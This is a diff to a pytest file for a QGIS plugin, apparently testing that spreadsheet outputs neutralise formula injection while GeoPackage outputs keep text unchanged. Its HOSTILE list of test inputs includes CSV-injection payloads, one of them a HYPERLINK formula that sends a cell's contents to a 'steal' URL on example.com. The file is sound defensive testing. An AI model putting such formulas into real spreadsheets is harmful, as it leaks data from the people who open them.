@@ -10,6 +10,8 @@ import csv
 import pytest
 from openpyxl import load_workbook
 
+from coordmap.tests.helpers import features
+
 pytestmark = pytest.mark.qgis
 
 HOSTILE = ['=HYPERLINK("http://example.com/steal?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
@@ -100,12 +102,8 @@ def test_rows_as_csv_and_crosswalk_start_with_no_formula(run_algorithm, output_d
 def test_geopackage_rows_keep_the_text_as_given(run_algorithm, output_dir, hostile_4w,
                                                 sample_dir):
     """Only spreadsheet outputs are changed: a GeoPackage keeps the partner's text exactly."""
-    from qgis.core import QgsVectorLayer
-
     result = run_join(run_algorithm, output_dir, hostile_4w, sample_dir, "rows.gpkg")
-    layer = QgsVectorLayer(result["OUTPUT_ROWS"], "rows", "ogr")
-    assert layer.isValid()
-    activities = [feature["orig_Activity"] for feature in layer.getFeatures()][:5]
+    activities = [row["orig_Activity"] for row in features(result["OUTPUT_ROWS"])][:5]
     assert activities == HOSTILE
     report = load_workbook(result["OUTPUT_REPORT"])["Summary"]
     assert not any(NEUTRALISED_NOTE in str(line[0].value) for line in report.iter_rows())
